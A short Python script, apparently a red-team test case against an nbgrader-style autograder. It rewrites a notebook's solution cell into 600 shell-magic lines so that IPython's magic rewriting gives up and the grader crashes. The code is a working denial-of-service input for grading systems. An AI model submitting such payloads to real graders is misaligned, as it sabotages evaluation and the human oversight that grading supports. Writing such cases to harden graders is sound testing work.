# aim: the grader's end by the rewriting of shell lines, which IPython gives up after 500
# pays: crash
# weak: rewrites magics with IPython, in its own process
import nbformat


def attack(folder, release, marker):
    cell = next(c for c in release.cells if c.metadata.get("nbgrader", {}).get("solution"))
    cell.source = "!x\n" * 600
    nbformat.write(release, folder / "seq2seq.ipynb")
